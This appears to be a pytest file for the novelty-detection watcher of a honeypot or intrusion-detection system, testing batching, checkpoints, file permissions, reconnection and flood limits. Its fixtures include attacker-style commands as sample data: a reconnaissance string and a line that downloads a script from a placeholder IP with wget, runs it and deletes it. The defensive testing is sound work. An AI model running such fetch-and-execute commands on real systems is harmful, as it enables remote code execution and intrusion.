import asyncio
import random
from collections.abc import AsyncIterator
from pathlib import Path

import pyarrow as pa
import pytest
import pytest_asyncio
from structlog.testing import capture_logs

from batches import Row, batch_of
from hive import connected, running, serving, until
from propolis.clock import ManualClock
from propolis.detection.novelty import watch as module
from propolis.detection.novelty.novel import Queue, decode
from propolis.detection.novelty.novelty import MAX_FRESH
from propolis.detection.novelty.watch import FILE, Watch
from propolis.events import CommandRun
from propolis.stream import Stream, subjects

ROWS: list[Row] = [
    (f"198.18.0.{number}", CommandRun("uname -a; id; cat /proc/cpuinfo")) for number in range(5)
]


@pytest_asyncio.fixture
async def stream(tmp_path: Path) -> AsyncIterator[Stream]:
    async with serving(tmp_path / "stream") as server, connected(server) as stream:
        yield stream


@pytest.fixture(autouse=True)
def quick(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(module, "PUBLISH_SECONDS", 0.05)


async def shown(stream: Stream) -> Queue:
    stored = await stream.get(subjects.NOVEL, subjects.QUEUE)
    return decode(stored.data) if stored else Queue(0)


async def test_the_queue_is_published_and_changes(stream: Stream, tmp_path: Path) -> None:
    watch = Watch(tmp_path, ManualClock())
    watch.begin("monday")

    async def count() -> int:
        return len((await shown(stream)).novel)

    async with running(watch.run(stream)):
        watch.take(1, batch_of(ROWS))
        await until(lambda: _is(count, 1))
        watch.take(
            2, batch_of([(source, CommandRun("wget http://203.0.113.9/a; sh a; rm a")) for source, _ in ROWS])
        )
        await until(lambda: _is(count, 2))


async def _is(count: object, wanted: int) -> bool:
    return await count() == wanted  # type: ignore[operator]


def looked_at(watch: Watch, monkeypatch: pytest.MonkeyPatch) -> list[tuple[int, int]]:
    """The last sequence and the rows of every look from now on."""
    looks: list[tuple[int, int]] = []
    take = watch._novelty.take

    def note(sequence: int, batch: pa.RecordBatch) -> None:
        looks.append((sequence, batch.num_rows))
        take(sequence, batch)

    monkeypatch.setattr(watch._novelty, "take", note)
    return looks


async def test_small_batches_are_looked_at_together(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    watch = Watch(tmp_path, ManualClock())
    looks = looked_at(watch, monkeypatch)
    watch.begin("monday")
    monkeypatch.setattr(module, "GATHER_ROWS", 3 * len(ROWS))
    for sequence in (1, 2, 2, 3, 4):
        watch.take(sequence, batch_of(ROWS))
    await watch.keep()
    monkeypatch.setattr(module, "GATHER_BYTES", 10)
    watch.take(5, batch_of(ROWS))
    assert looks == [(3, 15), (4, 5), (5, 5)]


async def test_what_is_no_interaction_is_passed_over_and_what_differs_is_looked_at_alone(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    watch = Watch(tmp_path, ManualClock())
    looks = looked_at(watch, monkeypatch)
    batch = batch_of(ROWS)
    watch.take(1, batch)
    watch.take(2, pa.record_batch({"when": [1, 2]}))
    watch.take(3, batch.replace_schema_metadata({}).cast(_odd(batch.schema)))
    await watch.keep()
    assert looks == [(1, 5), (3, 5)]


def _odd(schema: pa.Schema) -> pa.Schema:
    return pa.schema([pa.field(field.name, field.type, metadata={"odd": "one"}) for field in schema])


async def test_the_batches_of_another_stream_count_from_its_first(tmp_path: Path) -> None:
    watch = Watch(tmp_path, ManualClock())
    watch.begin("monday")
    watch.take(7, batch_of(ROWS[:3]))
    watch.begin("tuesday")
    watch.take(1, batch_of(ROWS))
    await watch.keep()
    assert [one.sources for one in watch._novelty.queue(0).novel] == [5]


async def test_it_goes_on_after_a_restart_and_nobody_else_may_read_it(tmp_path: Path) -> None:
    watch = Watch(tmp_path, ManualClock())
    watch.begin("monday")
    watch.take(1, batch_of(ROWS))
    await watch.keep()
    assert (tmp_path / FILE).stat().st_mode & 0o777 == 0o600
    again = Watch(tmp_path, ManualClock())
    again.begin("monday")
    assert again._novelty.queue(0) == watch._novelty.queue(0)


async def test_a_checkpoint_that_cannot_be_read_is_told_and_begins_anew(tmp_path: Path) -> None:
    (tmp_path / FILE).write_bytes(b"damaged")
    with capture_logs() as notes:
        watch = Watch(tmp_path, ManualClock())
    assert [note["event"] for note in notes] == ["BadMessage"]
    assert watch._novelty.queue(0).novel == ()


async def test_a_full_disk_leaves_the_last_one(tmp_path: Path) -> None:
    await Watch(tmp_path / "gone", ManualClock()).keep()


async def test_a_stream_that_is_away_is_tried_again(tmp_path: Path) -> None:
    async with serving(tmp_path / "stream") as server, connected(server) as stream:
        watch = Watch(tmp_path, ManualClock())
        watch.take(1, batch_of(ROWS))
        await server.stop()
        await until(lambda: not stream.client.is_connected)
        assert not await watch._publish(stream)


async def test_a_flood_is_told(stream: Stream, tmp_path: Path) -> None:
    watch, chance = Watch(tmp_path, ManualClock()), random.Random(1)
    flood: list[Row] = [
        ("198.18.0.1", CommandRun(f"{chance.random()} word{number}")) for number in range(MAX_FRESH + 9)
    ]
    with capture_logs() as notes:
        watch.take(1, batch_of(flood))
        async with running(watch.run(stream)):
            await asyncio.sleep(0.2)
    assert [note["cost"] for note in notes if note["event"] == "LimitHit"] == [
        "9 texts not looked at for what is new in them"
    ]
